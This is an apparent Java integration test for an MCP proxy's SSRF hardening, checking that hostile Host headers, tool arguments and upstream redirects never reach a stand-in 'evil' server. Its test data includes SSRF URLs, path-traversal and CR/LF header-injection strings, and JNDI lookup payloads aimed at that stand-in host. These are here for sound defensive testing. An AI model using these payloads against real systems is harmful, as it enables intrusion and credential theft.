package com.trackdesk.mcp.hardening;

import com.github.tomakehurst.wiremock.WireMockServer;
import com.github.tomakehurst.wiremock.verification.LoggedRequest;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.json.JsonMapper;

import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.any;
import static com.github.tomakehurst.wiremock.client.WireMock.anyRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.anyUrl;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathMatching;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.options;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * Goal 2 of issue #10 (SSRF): the upstream host comes from MCP_UPSTREAM_URL and a validated tenant
 * label only. Hostile Host headers, hostile tool arguments (absolute URLs, {@code //evil}, {@code ..},
 * {@code %2e%2e}, CR/LF, unicode dots) and upstream redirects never make the server call another host:
 * a second WireMock plays "evil" and must see nothing, and the real upstream only ever sees paths
 * under {@code /t/<valid-label>/api/}.
 */
class TenantHostSafetyIT {

    static final JsonMapper JSON = JsonMapper.builder().build();
    static final String KEY = "tok-LEAKCHECK-ssrf-7d1c0f5e-4a51-4bd4-9f0e-3f7c2a9e8b11";

    static WireMockServer evil;
    static String evilAddress;
    final WireMockServer upstream = Hardening.server().upstream();

    @BeforeAll
    static void startEvil() {
        evil = new WireMockServer(options().dynamicPort().bindAddress("127.0.0.1"));
        evil.start();
        evil.stubFor(any(anyUrl()).willReturn(aResponse().withHeader("Content-Type", "application/json")
                .withBody("{\"stolen\":true}")));
        evilAddress = "127.0.0.1:" + evil.port();
    }

    @AfterAll
    static void stopEvil() {
        evil.stop();
    }

    @BeforeEach
    void answerEverything() {
        upstream.resetRequests();
        evil.resetRequests();
        upstream.stubFor(any(urlPathMatching("/t/.*")).atPriority(5).willReturn(aResponse()
                .withHeader("Content-Type", "application/json").withBody("{\"ok\":true}")));
    }

    HttpResponse<String> execute(String host, Map<String, Object> arguments) {
        Map<String, String> headers = new LinkedHashMap<>();
        headers.put("X-Api-Key", KEY);
        if (host != null) {
            headers.put("Host", host);
        }
        HttpResponse<String> answer = Hardening.post(Hardening.toolCall("execute", JSON.writeValueAsString(arguments)), headers);
        assertThat(answer.statusCode()).as(answer.body()).isEqualTo(200);
        assertThat(answer.body()).doesNotContain(KEY);
        return answer;
    }

    void nothingLeftTheUpstreamTemplate(String expectedTenant) {
        assertThat(evil.getAllServeEvents()).as("requests the evil host received").isEmpty();
        for (LoggedRequest request : upstream.findAll(anyRequestedFor(anyUrl()))) {
            assertThat(request.getUrl()).startsWith("/t/" + expectedTenant + "/api/");
            // the evil address may appear as encoded data inside a path segment or query value, never as a host
            assertThat(request.getUrl()).doesNotContain("/../").doesNotContain("/./").doesNotContain("//");
            assertThat(request.getHeader("Host")).isEqualTo("127.0.0.1:" + upstream.port());
            assertThat(request.containsHeader("X-Forwarded-Host")).isFalse();
            assertThat(request.containsHeader("Cookie")).isFalse();
            assertThat(request.containsHeader("Authorization")).isFalse();
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"evil.example", "acme.trackdesk.com.evil.example", "trackdesk.com", "127.0.0.1",
            "[::1]", "localhost:1", "TRACKDESK.COM.", "x.trackdesk.com.evil.example:443"})
    void hostsOutsideTheDomainUseOnlyTheConfiguredDefaultTenant(String host) {
        HttpResponse<String> answer = execute(host, Map.of("operationId", "TagsService_ListTags"));

        assertThat(answer.body()).contains("\"isError\":false");
        nothingLeftTheUpstreamTemplate("acme");
    }

    @ParameterizedTest
    @ValueSource(strings = {"bad_label.trackdesk.com", "a.b.trackdesk.com", "-x.trackdesk.com", "x-.trackdesk.com",
            "x%2e127.0.0.1.trackdesk.com", "x..trackdesk.com", ".trackdesk.com",
            "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.trackdesk.com"})
    void hostsInsideTheDomainMustNameAValidDnsLabel(String host) {
        HttpResponse<String> answer = execute(host, Map.of("operationId", "TagsService_ListTags"));

        assertThat(answer.body()).contains("\"isError\":true").contains("does not name a valid tenant");
        assertThat(upstream.getAllServeEvents()).isEmpty();
        assertThat(evil.getAllServeEvents()).isEmpty();
    }

    @Test
    void hostBytesThatNoClientLibrarySendsAreRefusedToo() {
        String call = Hardening.toolCall("execute", "{\"operationId\":\"TagsService_ListTags\"}");
        List<String> hosts = List.of("evil.example:80@x.trackdesk.com", "", "acme.trackdesk.com:notaport", "ａｃｍｅ.trackdesk.com", "acme\u3002trackdesk.com", "ev\u00efl.trackdesk.com",
                "acme.trackdesk.com\u0000.evil", "acme\t.trackdesk.com");
        for (String host : hosts) {
            RawHttp.Answer answer = RawHttp.exchange(Hardening.server().baseUri(), RawHttp.post(
                    "Host: " + host + "\r\nContent-Type: application/json\r\nAccept: application/json\r\nX-Api-Key: " + KEY,
                    call.getBytes(StandardCharsets.UTF_8)), 20_000);
            assertThat(answer.status()).as(host + ": " + answer.body()).isBetween(200, 499);
            assertThat(answer.body()).doesNotContain(KEY);
        }
        nothingLeftTheUpstreamTemplate("acme");
    }

    @ParameterizedTest
    @ValueSource(strings = {"? #", "acme.trackdesk.com/x", "{tenant}.trackdesk.com", "acme trackdesk.com", "a#b"})
    void hostsThatAreNotHostAndPortGetAJsonRpcErrorNotAServerError(String host) {
        String call = Hardening.toolCall("execute", "{\"operationId\":\"TagsService_ListTags\"}");
        RawHttp.Answer answer = RawHttp.exchange(Hardening.server().baseUri(), RawHttp.post(
                "Host: " + host + "\r\nContent-Type: application/json\r\nAccept: application/json\r\nX-Api-Key: " + KEY,
                call.getBytes(StandardCharsets.UTF_8)), 20_000);

        assertThat(answer.status()).as(host + ": " + answer.body()).isEqualTo(400);
        assertThat(answer.body()).as(host).contains("\"code\":-32600").contains("The Host header is not a host name")
                .doesNotContain("Exception").doesNotContain(KEY);
        assertThat(upstream.getAllServeEvents()).isEmpty();
    }

    @Test
    void tenantComesOutOfTheLabelOnly() {
        execute("globex.trackdesk.com:8443", Map.of("operationId", "TagsService_ListTags"));
        execute("xn--bcher-kva.trackdesk.com", Map.of("operationId", "TagsService_ListTags"));

        assertThat(upstream.findAll(anyRequestedFor(anyUrl())).stream().map(LoggedRequest::getUrl))
                .containsExactly("/t/globex/api/node/tags/v1", "/t/xn--bcher-kva/api/node/tags/v1");
        assertThat(evil.getAllServeEvents()).isEmpty();
    }

    @Test
    void thePathArgumentCannotNameAnotherHost() {
        List<String> paths = List.of("http://" + evilAddress + "/api/node/tags/v1", "//" + evilAddress + "/api/node/tags/v1",
                "https://evil.example/api/node/tags/v1", "/api/node/tags/v1/../../../../" + evilAddress,
                "/api/node/%2e%2e/%2e%2e/tags/v1", "/api/node/tags/v1\r\nHost: " + evilAddress, "\\\\" + evilAddress + "\\x",
                "/api/node/tags/v1?@" + evilAddress, "@" + evilAddress + "/api/node/tags/v1", "/api\u2024node\u2024tags");
        for (String path : paths) {
            HttpResponse<String> answer = execute("ssrf.trackdesk.com", Map.of("method", "GET", "path", path));
            assertThat(answer.body()).as(path).contains("\"isError\":true");
        }
        assertThat(upstream.getAllServeEvents()).isEmpty();
        assertThat(evil.getAllServeEvents()).isEmpty();
    }

    @Test
    void parameterValuesAreEncodedAndNeverChangeHostOrPath() {
        List<String> values = List.of("http://" + evilAddress + "/x", "//" + evilAddress, "../../../" + evilAddress,
                "..%2f..%2f" + evilAddress, "%2e%2e", "%2E%2E%2F", "a/../../b", "?x=1#frag", "@" + evilAddress,
                "\uff0e\uff0e", "\u2024\u2024/\u2024\u2024", "a b", "%00", "\u0000", "{id}", "$%7Bjndi:ldap://" + evilAddress + "/a%7D",
                "${jndi:ldap://" + evilAddress + "/a}", "é/ü", "x;y=z", "\\..\\..\\");
        int sent = 0;
        for (String value : values) {
            HttpResponse<String> path = execute("ssrf.trackdesk.com", Map.of("operationId", "BalanceService_GetBalancesForAccount",
                    "pathParams", Map.of("accountId", value), "query", Map.of("until", value)));
            HttpResponse<String> tag = execute("ssrf.trackdesk.com", Map.of("operationId", "TagsService_GetTag",
                    "pathParams", Map.of("id", value)));
            sent += path.body().contains("\"isError\":false") ? 1 : 0;
            sent += tag.body().contains("\"isError\":false") ? 1 : 0;
        }
        List<String> refused = new ArrayList<>();
        for (String value : List.of("..", ".", "a\r\nHost: " + evilAddress, "a\nb")) {
            HttpResponse<String> answer = execute("ssrf.trackdesk.com", Map.of("operationId", "TagsService_GetTag",
                    "pathParams", Map.of("id", value)));
            if (answer.body().contains("\"isError\":true") && answer.body().contains("not sent")) {
                refused.add(value);
            }
        }

        assertThat(refused).hasSize(4);
        assertThat(sent).as("hostile-looking values are still sent, encoded").isGreaterThan(values.size());
        nothingLeftTheUpstreamTemplate("ssrf");
        for (LoggedRequest request : upstream.findAll(anyRequestedFor(anyUrl()))) {
            String path = request.getUrl().split("\\?")[0];
            assertThat(path).matches("/t/ssrf/api/node/(tags/v1|billing/v1/account-balances)/[^/]+");
        }
    }

    @ParameterizedTest
    @ValueSource(ints = {301, 302, 303, 307, 308})
    void redirectsFromTheUpstreamAreNotFollowed(int status) {
        upstream.stubFor(any(urlPathMatching("/t/redirect/.*")).atPriority(1).willReturn(aResponse().withStatus(status)
                .withHeader("Location", "http://" + evilAddress + "/steal?key=x")));

        HttpResponse<String> read = execute("redirect.trackdesk.com", Map.of("operationId", "TagsService_ListTags"));
        HttpResponse<String> write = execute("redirect.trackdesk.com", Map.of("operationId", "TagsService_CreateTag",
                "body", Map.of("name", "vip", "hexColorCode", "#ff8800", "scopes", List.of("TAG_SCOPE_AFFILIATES"))));

        assertThat(read.body()).contains("\"isError\":true").contains("HTTP " + status);
        assertThat(write.body()).contains("\"isError\":true").contains("HTTP " + status);
        assertThat(evil.getAllServeEvents()).as("the evil host saw the token?").isEmpty();
        nothingLeftTheUpstreamTemplate("redirect");
    }

    @Test
    void clientHeadersAreNotForwarded() {
        Map<String, String> headers = new LinkedHashMap<>();
        headers.put("X-Api-Key", KEY);
        headers.put("Host", "fwd.trackdesk.com");
        headers.put("X-Forwarded-Host", evilAddress);
        headers.put("Cookie", "session=" + KEY);
        headers.put("Authorization", "Bearer " + KEY);
        headers.put("X-Mcp-Upstream-Target", "//" + evilAddress + "/x");
        HttpResponse<String> answer = Hardening.post(Hardening.toolCall("execute", "{\"operationId\":\"TagsService_ListTags\"}"), headers);

        assertThat(answer.body()).contains("\"isError\":false");
        nothingLeftTheUpstreamTemplate("fwd");
        assertThat(upstream.findAll(anyRequestedFor(anyUrl())).get(0).getUrl()).isEqualTo("/t/fwd/api/node/tags/v1");
    }
}
